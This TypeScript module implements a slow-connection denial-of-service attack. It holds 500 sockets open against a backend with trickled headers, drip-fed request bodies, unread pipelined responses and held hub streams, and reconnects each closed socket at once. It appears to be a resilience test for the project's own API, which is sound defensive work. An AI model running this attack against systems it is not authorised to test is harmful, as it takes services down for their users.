import { connect, type Socket } from 'node:net'
import { HUB_PATH } from '#contract/realtime/topics.ts'

/** How many connections of each kind; five hundred in all. */
const COUNTS = { headers: 150, bodies: 150, readers: 150, streams: 50 }

const EVERY_MS = 500

/** What an attack is made on, and with. */
interface Target {
  readonly url: string
  /** Of somebody who is signed in: bodies and readers get as far as the handlers. */
  readonly authorization: string
  readonly hubToken: string
}

/** An attack that goes on until it is ended: whatever the backend closes comes back at once. */
export interface Attack {
  /** Connections that are open now. */
  open(): number
  /** Connections that the backend has closed or answered so far. */
  closed(): number
  end(): void
}

/** Five hundred connections that send or read as slowly as can be. */
export function attack(target: Target): Attack {
  const sockets = new Set<Socket>()
  let closed = 0
  let isOver = false

  function keep(first: string, rest: string | null, isReading: boolean): void {
    if (isOver) return
    const { hostname, port } = new URL(target.url)
    const socket = connect(Number(port), hostname)
    sockets.add(socket)
    socket.on('connect', () => socket.write(first))
    if (isReading) socket.resume()
    else socket.pause()
    // One byte now and then is what keeps limits for silence from ending it.
    const timer = rest === null ? null : setInterval(() => socket.write(rest), EVERY_MS)
    socket.on('error', () => socket.destroy())
    socket.on('close', () => {
      if (timer) clearInterval(timer)
      sockets.delete(socket)
      if (isOver) return
      closed += 1
      setTimeout(() => keep(first, rest, isReading), EVERY_MS)
    })
  }

  const { host } = new URL(target.url)
  const signedIn = `Host: ${host}\r\nAuthorization: ${target.authorization}\r\n`
  const json = 'Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n'
  for (let n = 0; n < COUNTS.headers; n += 1)
    keep(`GET /v2/api/showrooms HTTP/1.1\r\nHost: ${host}\r\n`, 'X-A: b\r\n', true)
  for (let n = 0; n < COUNTS.bodies; n += 1)
    keep(`POST /v2/api/customer_projects HTTP/1.1\r\n${signedIn}${json}{`, ' ', true)
  // The longest answer that there is without files, again and again on one connection, and none of it read.
  const long = `GET /v2/api/openapi.json HTTP/1.1\r\n${signedIn}\r\n`
  for (let n = 0; n < COUNTS.readers; n += 1) keep(long.repeat(20), null, false)
  const stream = `GET ${HUB_PATH}?topic=* HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${target.hubToken}\r\n\r\n`
  for (let n = 0; n < COUNTS.streams; n += 1) keep(stream, null, true)

  return {
    open: () => sockets.size,
    closed: () => closed,
    end() {
      isOver = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
